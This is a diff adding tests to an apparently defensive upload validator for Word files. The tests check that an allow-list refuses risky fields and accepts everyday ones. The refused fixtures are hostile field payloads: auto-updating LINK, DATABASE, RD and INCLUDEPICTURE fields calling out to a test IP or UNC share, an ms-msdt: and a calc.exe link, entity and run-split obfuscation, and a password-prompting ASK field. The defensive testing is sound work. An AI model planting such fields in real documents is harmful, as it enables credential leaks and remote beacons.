@@ -317,6 +317,86 @@ describe("fields that pull in another file or run a program", () => {
   }
 });
 
+/** A w:fldSimple field in a paragraph; `instr` is written as the attribute's XML text. */
+const simpleField = (instr: string, result = "x") => `<w:p><w:fldSimple w:instr="${instr}"><w:r><w:t>${result}</w:t></w:r></w:fldSimple></w:p>`;
+
+/** word/settings.xml asking Word to update every field when the document opens. */
+const UPDATE_FIELDS: Part = {
+  name: "word/settings.xml",
+  data: wordXml('<w:updateFields w:val="true"/>', "w:settings", "w:compat").replace("<w:compat></w:compat>", ""),
+};
+
+describe("only harmless fields: an allow-list, not a list of bad names", () => {
+  const UNC = "\\\\203.0.113.9\\share\\x.xlsx";
+  const refused: [string, () => Buffer][] = [
+    [
+      "a LINK field with \\a (updated on opening) to a UNC share",
+      () => wordFile(`<w:p>${field([` LINK Excel.Sheet.12 "${UNC}" "Sheet1!R1C1" \\a \\f 4 `])}</w:p>`),
+    ],
+    ["a LINK field to an http URL", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "http://203.0.113.9/x.xlsx" "" \\a '])}</w:p>`)],
+    ["a LINK field split over runs", () => wordFile(`<w:p>${field([" LI", "NK Word.Document.12 ", '"C:\\\\x.docx" \\a'])}</w:p>`)],
+    ["a LINK field in a simple field", () => wordFile(simpleField(` LINK Excel.Sheet.12 &quot;${UNC}&quot; &quot;&quot; \\a `))],
+    ["a LINK field with updateFields on", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "x.xlsx" \\a '])}</w:p>`, { parts: [UPDATE_FIELDS] })],
+    [
+      "a DATABASE field querying a file on a share",
+      () => wordFile(`<w:p>${field([` DATABASE \\d "${UNC}" \\s "SELECT * FROM x" \\h `])}</w:p>`, { parts: [UPDATE_FIELDS] }),
+    ],
+    ["a DATABASE field with a local path only", () => wordFile(`<w:p>${field([' DATABASE \\d "C:\\\\data.mdb" \\s "SELECT 1" '])}</w:p>`)],
+    [
+      "a DATABASE field in a simple field, split from its name by an entity",
+      () => wordFile(simpleField(" DATA&#66;ASE \\d &quot;http://203.0.113.9/d.mdb&quot; ")),
+    ],
+    ["an RD field to a UNC share", () => wordFile(`<w:p>${field([` RD "${UNC}" `])}</w:p>`)],
+    ["an RD field to an http URL", () => wordFile(`<w:p>${field([' RD "http://203.0.113.9/chapter.docx" \\f '])}</w:p>`)],
+    ["an RD field split over runs, in lower case", () => wordFile(`<w:p>${field([" r", 'd "http://203.0.113.9/c.docx"'])}</w:p>`)],
+    ["an RD field in a simple field", () => wordFile(simpleField(" RD &quot;//203.0.113.9/share/c.docx&quot; "))],
+    [
+      "an INCLUDEPICTURE split over five runs with updateFields on",
+      () => wordFile(`<w:p>${field([" IN", "CLU", "DEPIC", "TURE ", '"http://203.0.113.9/p.png" \\d'])}</w:p>`, { parts: [UPDATE_FIELDS] }),
+    ],
+    ["an INCLUDEPICTURE in a simple field, UNC target", () => wordFile(simpleField(` INCLUDEPICTURE &quot;${UNC}&quot; \\d `))],
+    ["a HYPERLINK field to a UNC share", () => wordFile(`<w:p>${field([` HYPERLINK "${UNC}" `])}</w:p>`)],
+    ["a HYPERLINK field to a file: URL", () => wordFile(`<w:p>${field([' HYPERLINK "file:///C:/Windows/System32/calc.exe" '])}</w:p>`)],
+    ["a HYPERLINK field to another program's scheme", () => wordFile(`<w:p>${field([' HYPERLINK "ms-msdt:/id PCWDiagnostic" '])}</w:p>`)],
+    ["a harmless field name with a UNC path in it", () => wordFile(`<w:p>${field([` REF "${UNC}" `])}</w:p>`)],
+    ["a harmless field name with an http URL in it", () => wordFile(simpleField(" QUOTE &quot;http://203.0.113.9/beacon&quot; "))],
+    ["a field that is not on the list (ASK prompts on updating)", () => wordFile(`<w:p>${field([' ASK name "Your password?" '])}</w:p>`)],
+    ["a MACROBUTTON that runs a Word command", () => wordFile(`<w:p>${field([" MACROBUTTON FileOpen Click here "])}</w:p>`)],
+    ["an instruction that starts with a quote", () => wordFile(`<w:p>${field([' "LINK" x \\a '])}</w:p>`)],
+    [
+      "a LINK field outside any field characters",
+      () => wordFile("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:instrText> LINK x \\a</w:instrText></w:r></w:p>"),
+    ],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      await expectRefusedEverywhere(make());
+    });
+  }
+
+  it("takes everyday fields, split over runs and in simple fields, with updateFields on", async () => {
+    const body =
+      `<w:p>${field([" PA", "GE "], "1")} of ${field([" NUM", "PAGES \\* MERGEFORMAT "], "3")}</w:p>` +
+      `<w:p>${field([' DATE \\@ "dd/MM/yyyy" '], "05/01/2026")} ${field([' TIME \\@ "h:mm am/pm" '], "9:30 am")}</w:p>` +
+      `<w:p>${field([' TOC \\o "1-3" \\h \\z \\u '], "")}${field([" REF _Ref123 \\h "], "Week 2")}${field([" SEQ Figure \\* ARABIC "], "1")}</w:p>` +
+      `<w:p>${field([" FORMTEXT "], "Your name")}${field([" FORMCHECKBOX "], "")}${field([" MACROBUTTON NoMacro [Click here and type] "], "")}</w:p>` +
+      `<w:p>${field([" HYPER", 'LINK "https://attack.mitre.org/techniques/T1566/" \\o "MITRE" '], "T1566")}${field([' HYPERLINK \\l "_Toc1" '], "Week 1")}</w:p>` +
+      `<w:p>${field([' HYPERLINK "mailto:admissions@example.in" '], "mail us")}${field([" = 2 * 3 "], "6")}${field([" AUTHOR "], "Asha")}</w:p>` +
+      `<w:p>${field([' ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/users/1/items/ABC"]} '], "(NIST, 2012)")}</w:p>` +
+      simpleField(" NUMPAGES ", "3") +
+      simpleField(" HYPERLINK &quot;http://example.in/courses&quot; ", "courses") +
+      simpleField(" DATE \\@ &quot;MMMM d, yyyy&quot; ", "January 5, 2026") +
+      para("Module 7: LINK, DATABASE and RD fields that point at \\\\server\\share or http:// addresses.");
+    await expectAcceptedEverywhere(wordFile(body, { parts: [UPDATE_FIELDS] }));
+  });
+
+  it("takes an embedded object's EMBED field in a syllabus, not in an attachment (no embedded objects there)", async () => {
+    const file = wordFile(simpleField(" EMBED Excel.Sheet.12 "));
+    expect((await upload("syllabusFile", "syllabus.docx", file)).errors).toEqual({});
+    expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
+  });
+});
+
 describe("altChunk: another file imported into the document", () => {
   it("refuses a w:altChunk element", async () => {
     await expectRefusedEverywhere(
